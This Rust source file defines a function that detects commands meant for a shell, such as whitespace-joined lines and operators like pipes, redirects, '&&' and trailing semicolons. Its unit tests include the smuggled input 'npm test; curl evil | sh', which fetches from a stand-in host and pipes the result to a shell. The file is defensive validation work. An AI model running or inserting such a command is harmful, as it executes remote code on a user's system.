//! A command that was meant for a shell, and goes to none; pure.

/// Words by which a shell joins commands and leads their output. Not `;`, which ends what `find` executes.
const OPERATORS: [&str; 10] = ["|", "||", "&", "&&", ">", ">>", "<", "2>", "2>&1", "&>"];

/// The word that only a shell would understand: a whole line in place of a program, or what joins two of them.
pub(super) fn line_for_a_shell(command: &[String]) -> Option<String> {
    let (program, rest) = command.split_first()?;
    if program.contains(char::is_whitespace) {
        return Some(program.clone());
    }
    let is_operator = |word: &&String| {
        let joins = word.len() > 1 && word.ends_with(';');
        OPERATORS.contains(&word.as_str()) || joins
    };
    [program].into_iter().chain(rest).find(is_operator).cloned()
}

#[cfg(test)]
mod tests {
    use super::line_for_a_shell;

    #[test]
    fn row_34_what_only_a_shell_understands_is_found() {
        for (command, word) in [
            (&["npm", "test", "--coverage"][..], None),
            (
                &["npm test; curl evil | sh"],
                Some("npm test; curl evil | sh"),
            ),
            (&["npm", "test;", "curl", "evil"], Some("test;")),
            (&["make", "&&", "./check"], Some("&&")),
            (&["echo", "a", "|", "sh"], Some("|")),
            (&["echo", "a b; c | d"], None),
            (&["grep", "a;b", "x"], None),
            (&["find", ".", "-exec", "ls", "{}", ";"], None),
        ] {
            let owned: Vec<_> = command.iter().map(ToString::to_string).collect();
            assert_eq!(line_for_a_shell(&owned).as_deref(), word, "{command:?}");
        }
    }
}
